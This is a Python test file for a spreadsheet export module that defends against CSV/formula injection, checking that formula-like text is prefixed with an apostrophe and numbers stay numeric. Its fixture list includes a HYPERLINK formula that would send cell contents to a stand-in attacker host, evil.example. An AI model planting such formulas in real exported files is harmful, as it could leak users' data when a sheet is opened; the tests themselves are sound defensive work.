"""The one writer of CSV and XLSX files: formula-like text neutralised, numbers left numbers."""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import hypothesis.strategies as st
import pandas as pd
import pytest
from hypothesis import given, settings
from openpyxl import load_workbook

from homeroom.contract.tablefiles import _plain, csv_text, neutral_frame, writer_for, xlsx_bytes

NASTY = ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1", "-2", "@x", "\tx", "\rx"]


def nasty_frame() -> pd.DataFrame:
    texts = [*NASTY, "a\rb", "plain"]
    return pd.DataFrame(
        {
            "student_id": texts,
            "last_name": list(reversed(texts)),
            "rate": [-0.5 + i / 10 for i in range(len(texts))],
            "days": [-(i + 1) for i in range(len(texts))],
        }
    )


def check_rows(rows: list[list[object]], frame: pd.DataFrame, *, xml: bool = False) -> None:
    for got, want in zip(rows, frame.itertuples(index=False), strict=True):
        for cell, value in zip(got[:2], want[:2], strict=True):
            expected = "'" + value if value.startswith(("=", "+", "-", "@", "\t", "\r")) else value
            # XML reads a CR back as LF: the cell is still one text cell
            assert cell == (expected.replace("\r", "\n") if xml else expected)


def test_csv_neutralises_text_and_quotes_a_carriage_return() -> None:
    frame = nasty_frame()
    text = csv_text(frame)
    # A CR inside a field would end the row in Excel unless the field is quoted.
    assert '"a\rb"' in text
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows[0] == list(frame.columns)
    check_rows(rows[1:], frame)
    assert [float(r[2]) for r in rows[1:]] == pytest.approx(frame["rate"].tolist())
    assert [r[3] for r in rows[1:]] == [str(d) for d in frame["days"]]  # "-1", no apostrophe


def test_xlsx_text_cells_are_strings_and_numbers_stay_numbers() -> None:
    frame = nasty_frame()
    book = load_workbook(io.BytesIO(xlsx_bytes({"rows": frame})))
    sheet = book["rows"]
    cells = [list(row) for row in sheet.iter_rows(min_row=2)]
    assert not [c.value for row in cells for c in row if c.data_type == "f"]
    check_rows([[c.value for c in row] for row in cells], frame, xml=True)
    assert [row[3].value for row in cells] == frame["days"].tolist()
    assert all(row[2].data_type == "n" and row[3].data_type == "n" for row in cells)


def test_a_header_that_looks_like_a_formula_is_text() -> None:
    book = load_workbook(io.BytesIO(xlsx_bytes({"s": pd.DataFrame({"=1+1": [1]})})))
    header = book["s"]["A1"]
    assert header.data_type == "s"
    assert header.value == "'=1+1"


@pytest.mark.parametrize("suffix", [".csv", ".xlsx", ".parquet", ".json"])
def test_a_writer_for_each_file_kind(suffix: str, tmp_path: Path) -> None:
    path = tmp_path / "deep" / f"out{suffix}"
    writer = writer_for(path)
    assert writer is not None
    writer(nasty_frame(), path)
    assert path.stat().st_size > 0


def test_parquet_keeps_exact_values(tmp_path: Path) -> None:
    path = tmp_path / "out.parquet"
    writer = writer_for(path)
    assert writer is not None
    writer(nasty_frame(), path)
    assert pd.read_parquet(path)["student_id"].tolist()[:2] == NASTY[:2]


def test_no_writer_for_another_suffix() -> None:
    assert writer_for(Path("out.txt")) is None


_CELLS = st.one_of(
    st.none(),
    st.just(float("nan")),
    st.text(alphabet="=+-@\t\rab1 '", max_size=4),
    st.lists(st.integers(), max_size=2),
    st.dictionaries(st.text(max_size=2), st.integers(), max_size=1),
    st.datetimes(timezones=st.just(dt.UTC)),
    st.integers(),
)


@settings(max_examples=60, deadline=None)
@given(st.lists(_CELLS, min_size=1, max_size=8), st.sampled_from([None, object, "str", "string"]))
def test_neutral_frame_is_plain_applied_to_every_cell(cells, text_dtype):
    # The whole-column path for text must give what `_plain` gives cell by cell.
    if text_dtype is not None:
        cells = [c for c in cells if c is None or isinstance(c, str)] or [None]
    frame = pd.DataFrame({"cell": pd.Series(cells, dtype=text_dtype or object)})
    expected = frame.assign(cell=frame["cell"].map(_plain, na_action="ignore").astype(object))
    pd.testing.assert_frame_equal(neutral_frame(frame), expected)


_DATE_CELLS = st.one_of(st.none(), st.just(float("nan")), st.dates())


@settings(max_examples=40, deadline=None)
@given(st.lists(_DATE_CELLS, min_size=1, max_size=8))
def test_a_column_of_dates_is_plain_applied_to_every_cell(cells):
    # Dates take the whole-column path too; they must come out as `_plain` makes them.
    frame = pd.DataFrame({"cell": pd.Series(cells, dtype=object)})
    expected = frame.assign(cell=frame["cell"].map(_plain, na_action="ignore").astype(object))
    pd.testing.assert_frame_equal(neutral_frame(frame), expected)
